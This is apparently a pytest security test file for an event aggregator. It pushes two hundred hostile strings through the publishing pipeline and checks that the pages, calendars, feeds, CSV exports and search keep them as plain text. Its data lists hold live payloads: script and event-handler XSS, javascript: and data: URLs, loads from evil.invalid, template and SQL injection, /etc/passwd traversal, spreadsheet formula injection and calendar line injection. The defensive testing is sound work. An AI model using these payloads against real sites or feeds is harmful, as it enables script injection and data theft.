"""Two hundred strings that try to be more than text, from the inbox to every page and feed."""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Iterator
from datetime import UTC, datetime
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from litestar.testing import TestClient
from lxml import etree

import trek
from aggregator.config_loader import load_region
from aggregator.model import (
    Listing,
    Outcome,
    RawEvent,
    RawOccurrence,
    RawOffer,
    RawPlace,
    Reject,
    Run,
    to_plain,
)
from aggregator.normalise.listing import Normaliser
from crawlers.inbox import InboxRun
from feeds.card import Voice
from feeds.info import read_info
from feeds.urls import Urls
from feeds.venue.trial import MOST_SHOWN, read_tried, render_trial
from feeds.web import create_app
from tests.system.home import add_source, call, make_home

# `@` is where the mark of each string stands, by which it is found again; each family is our own.
MARKUP = """
<script>alert('@')</script>
<ScRiPt src=//evil.invalid/@.js></sCrIpT>
<img src=x onerror=alert(@)>@
<svg/onload=alert('@')>@
<svg><script xlink:href=data:,alert(1)>@</script></svg>
<iframe src=javascript:alert('@')>@</iframe>
<body onload=alert(1)>@
<a href="javascript:alert(1)">@</a>
<a href="jav&#x09;ascript:alert(1)">@</a>
<math><mtext></mtext><style><img src onerror=alert(1)></style>@</math>
<style>*{background:url(//evil.invalid/@)}</style>@
<link rel=stylesheet href=//evil.invalid/@.css>@
<meta http-equiv=refresh content="0;url=//evil.invalid/@">@
<base href=//evil.invalid/>@
<form action=//evil.invalid/><input name=@></form>
<object data=//evil.invalid/@></object>@
<template><script>alert(1)</script></template>@
<!--@--><script>alert(1)</script>@
<![CDATA[<script>alert('@')</script>]]>
]]><script>alert('@')</script><![CDATA[
</script><script>alert('@')</script>
</title><script>alert('@')</script>
</textarea><script>alert('@')</script>
</style><script>alert('@')</script>
"><script>alert('@')</script>
'><img src=x onerror=alert(1)>@
" onmouseover="alert(1)" x="@
' autofocus onfocus='alert(1)' x='@
` onclick=alert(1) @`
""".strip().splitlines()
ENTITIES = """
&lt;script&gt;alert('@')&lt;/script&gt;
&amp;lt;script&amp;gt;alert('@')&amp;lt;/script&amp;gt;
&#60;script&#62;alert('@')&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;@
&quot;&gt;&lt;svg onload=alert(1)&gt;@
%3Cscript%3Ealert('@')%3C/script%3E
\\u003cscript\\u003ealert('@')\\u003c/script\\u003e
&nbsp;&zwj;&rlm;@
&CounterClockwiseContourIntegral;@
&@;
""".strip().splitlines()
OTHERS = [
    "[@](javascript:alert(1))",
    "![@](//evil.invalid/pixel.gif)",
    "**@** __x__ `code` # kop",
    "<javascript:alert('@')>",
    "| @ | --- |",
    "{{ 7*7 }} @",
    "{% include '/etc/passwd' %} @",
    "${7*7} @ #{7*7}",
    "@\r\nX-EVIL:1\r\nBEGIN:VEVENT",
    "@\nATTENDEE:mailto:evil@evil.invalid".replace("evil@evil", "evil.at"),
    "@\r\n\r\n<html><script>alert(1)</script>",
    "@;VALUE=DATE:20200101,\\n\\,\\;",
    "END:VEVENT\nEND:VCALENDAR @",
    "@\u2028BEGIN:VALARM\u2029END:VALARM",
    "@\x0bX-EVIL:1\x0c\x85X-EVIL:2",
    "\u202e@ neteksel \u202c",
    "\u2066@\u2069 \u200f\u200e",
    "@\x00\x01\x1b[31m\x7f\x9b",
    "\ufeff@\ufffe\uffff",
    "=HYPERLINK(\"//evil.invalid\";\"@\")",
    "+cmd|' /C calc'!A0 @",
    "-2+3+cmd@",
    "@SUM(1)".replace("@SUM", "\t=SUM@"),
    "'; DROP TABLE events; -- @",
    "../../../etc/passwd @",
    "@" + "A" * 3000,
    "@ " + "\u0301" * 200,
    "@ \U0001f469\u200d\U0001f469\u200d\U0001f467 zaal",
    "style=\"position:fixed;inset:0\" @",
]  # fmt: skip
ADDRESSES = """
javascript:alert(1)
JaVaScRiPt:alert(1)
java\tscript:alert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
file:///etc/passwd
//evil.invalid/x
https://ok.invalid/"onclick="alert(1)
https://ok.invalid/'><script>alert(1)</script>
https://ok.invalid/\r\nSet-Cookie: x=1
https://user:pass@ok.invalid/
https://ok.invalid/\u202egpj.exe
https://[broken
blob:https://ok.invalid/1
https://ok.invalid/a?b=1&c=<x>
""".strip("\n").split("\n")
FRAMES = ("{}", "Concert {}", "{} in de kerk", "Film: {} (8+)")
STRINGS = [f.format(s) for s in (*MARKUP, *ENTITIES, *OTHERS) for f in FRAMES[:3]][:200]
PAGE = re.compile(r"\.html$")
TAGS = set(
    "a article aside body br button circle code dd details div dl dt fieldset footer form h1 h2 h3 "
    "h4 head header html input label legend li link main meta nav ol option p path rect script "
    "section select small span strong summary svg table tbody td text textarea th thead time title "
    "tr ul".split()
)  # fmt: skip
UNSEEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\ufeff\ufffe]")
LINE = re.compile(rb"(BEGIN|END|[A-Z][A-Z-]*)[;:]|[ \t]")


def mark(number: int) -> str:
    """What stands for `@` in a string: letters alone, so that no cleaning changes it."""
    return "zq" + "".join(chr(97 + int(digit)) for digit in f"{number:03}") + "qz"


def hostile(number: int) -> RawEvent:
    """An event that says its string in every field."""
    text = STRINGS[number].replace("@", mark(number))
    address = ADDRESSES[number % len(ADDRESSES)]
    when = RawOccurrence(
        start=f"2026-{12 if number % 2 else 11}-{number % 28 + 1:02}T2{number % 4}:00:00+01:00"
    )
    return RawEvent(
        "markt",
        f"https://markt.invalid/{number}",
        "2026-11-24T06:00:00+00:00",
        "json-ld",
        text,
        occurrences=(when,),
        subtitle=text,
        url=address,
        place=RawPlace(name=f"Grote Kerk {text[:200]}", address=text[:200], place="Hengelo"),
        offers=(RawOffer(text=text[:100], url=address),),
        ticket_url=address,
        description=f"{text}\n\n{text}",
        image=address,
        image_credit=text,
        organiser=text[:300],
        performers=(text[:200],),
        categories=(text[:100], "concert"),
    )


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The hostile events in a store, published as any others."""
    folder = make_home(tmp_path_factory.mktemp("hostile"))
    add_source(folder / "config", "markt", "https://markt.invalid/agenda")
    run_id, moment = "20261124T060000Z-000001", "2026-11-24T06:00:00+00:00"
    inbox = InboxRun(folder / "data" / "inbox", "markt", run_id)
    for number in range(len(STRINGS)):
        inbox.write(hostile(number))
    ended = {"outcome": Outcome.OK, "complete": True, "items": len(STRINGS), "pages": 1}
    inbox.finish(Run(run_id, "markt", moment, moment, **ended))
    said = call(folder, "publish")
    assert said.status == 0, said.err
    return folder


class Page(HTMLParser):
    """What a page is made of: elements, attributes, the texts of its scripts, and all that is read."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: set[str] = set()
        self.faults: list[str] = []
        self.data: list[str] = []
        self.read: list[str] = []
        self._script = False
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        own = dict(attrs)
        self._script = tag == "script"
        if tag == "script" and own.get("type") != "application/ld+json" and not own.get("src"):
            self.faults.append(f"a script of somebody else: {attrs}")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "formaction"):
                self.faults.append(f"{tag} {name}={value!r}")
            if name in ("href", "src", "action", "data-href", "xlink:href"):
                self.faults += _strange(tag, value or "")

    def handle_endtag(self, tag: str) -> None:
        self._script = False

    def handle_data(self, data: str) -> None:
        (self.data if self._script else self.read).append(data)


def _strange(tag: str, address: str) -> list[str]:
    scheme = urlsplit(address).scheme
    fine = scheme in ("", "http", "https", "mailto", "webcal") and not address.startswith("//")
    loads = tag in ("script", "link", "img") and "evil" in (urlsplit(address).hostname or "")
    return [] if fine and not loads else [f"{tag} leads to {address!r}"]


def files(home: Path, ending: str) -> Iterator[tuple[str, str]]:
    for path in sorted((home / "public").rglob(f"*{ending}")):
        yield path.relative_to(home / "public").as_posix(), path.read_text("utf-8")


def test_there_are_two_hundred_and_they_arrive(home: Path) -> None:
    assert len(set(STRINGS)) == 200
    pages = " ".join(text for name, text in files(home, "index.html") if name.startswith("evenement/"))
    gone = [n for n in range(200) if mark(n) not in pages]
    assert len(gone) <= 10, [STRINGS[n] for n in gone]  # what is nothing but markup has no words left


def test_pages_hold_no_element_or_address_of_theirs(home: Path) -> None:
    seen = 0
    for name, text in files(home, ".html"):
        page = Page(text)
        assert page.faults == [], name
        assert page.tags <= TAGS, (name, page.tags - TAGS)
        assert not UNSEEN.search(text), name
        for data in page.data:
            assert isinstance(json.loads(data), dict | list), name
        seen += 1
    assert seen > 700


def test_calendars_hold_no_line_of_theirs(home: Path) -> None:
    seen = 0
    for path in (home / "public").rglob("*.ics"):
        lines = path.read_bytes().split(b"\r\n")
        assert all(LINE.match(line) for line in lines[:-1]), path
        assert not any(line.startswith((b"X-EVIL", b"ATTENDEE", b"BEGIN:VALARM")) for line in lines), path
        assert b"\n" not in b"".join(lines), path
        assert not UNSEEN.search(path.read_text("utf-8").replace("\r\n", "")), path
        seen += 1
    assert seen > 400


def test_feeds_hold_text_and_markup_of_ours_alone(home: Path) -> None:
    seen = 0
    for ending in (".rss", ".atom"):
        for name, text in files(home, ending):
            tree = etree.fromstring(text.encode(), etree.XMLParser(resolve_entities=False))
            inner = [
                n.text for n in tree.iter("{*}encoded", "{*}content") if n.text and n.get("type") != "text"
            ]
            seen += check_inner(name, inner)
    for name, text in files(home, ".json"):
        if name.startswith(("feeds/", "en/feeds/", "de/feeds/")):
            seen += check_inner(name, [item.get("content_html", "") for item in json.loads(text)["items"]])
    assert seen > 300


def check_inner(name: str, parts: list[str | None]) -> int:
    """How many pieces of markup were looked through."""
    for part in parts:
        page = Page(part or "")
        assert page.faults == [], name
        assert page.tags <= {"p", "a", "b", "br", "img", "small", "h3"}, (name, page.tags)
    return len(parts)


def test_tables_hold_no_formula_and_lists_no_line_of_theirs(home: Path) -> None:
    for name, text in files(home, ".csv"):
        for row in csv.reader(text.lstrip("\ufeff").splitlines()):
            assert not [cell for cell in row if cell.startswith(("=", "+", "@", "\t"))], name
    for name, text in files(home, ".txt"):
        assert not UNSEEN.search(text.lstrip("\ufeff")), name
        assert not [line for line in text.splitlines() if line.startswith("X-EVIL")], name


def test_the_search_index_holds_text(home: Path) -> None:
    index = json.loads((home / "public/zoek/index.json").read_text("utf-8"))
    assert len(index["events"]) > 100
    assert not UNSEEN.search(json.dumps(index, ensure_ascii=False))


def test_what_is_asked_comes_back_as_text(home: Path) -> None:
    desk = trek.Desk(home / "data", home / "public", None, home / "config")
    with desk.look() as store, TestClient(create_app(desk.public, lambda: store, desk.region)) as client:
        for number, text in enumerate(STRINGS[::5] + ADDRESSES):
            for path, key in (("/zoek/", "words"), ("/de/maak/", "without"), ("/en/zoek/", "municipality")):
                answer = client.get(path, params={key: text.replace("@", mark(number))})
                assert answer.status_code == (400 if key == "municipality" else 200)
                page = Page(answer.text)
                assert page.faults == [], text
                assert page.tags <= TAGS, text
                assert answer.headers["content-security-policy"].startswith("default-src 'none'")


def test_a_page_that_somebody_tries_is_told_as_text_alone(home: Path) -> None:
    """What a page says comes back in fields, in words for people, in the block to copy, in addresses."""
    region, moment = load_region(home / "config"), datetime(2026, 11, 24, 6, tzinfo=UTC)
    info = read_info(region)
    voice, today = Voice(info, Urls(info.base_url, info.languages[0]), "de"), moment.date()
    made = Normaliser(region, keep_private=True).listings(map(hostile, range(200)), moment)
    told = [to_plain(one) for one in made if isinstance(one, Listing)]
    assert len(told) > 180
    for first in range(0, 200, MOST_SHOWN):
        words = STRINGS[first : first + MOST_SHOWN]
        answer = {
            "url": ADDRESSES[first % len(ADDRESSES)],
            "outcome": "ok",
            "listings": told[first : first + MOST_SHOWN],
            "rejects": [to_plain(Reject("", "", text[:40], text, text)) for text in words],
            "problems": [[text[:40], text] for text in words],
            "follow": list(ADDRESSES),
        }
        text = render_trial(voice, today, read_tried(answer), typed=words[0]).decode()
        page = Page(text)
        assert page.faults == []
        assert page.tags <= TAGS | {"article", "div", "em", "meter", "textarea"}, page.tags - TAGS
        assert not UNSEEN.search(text)
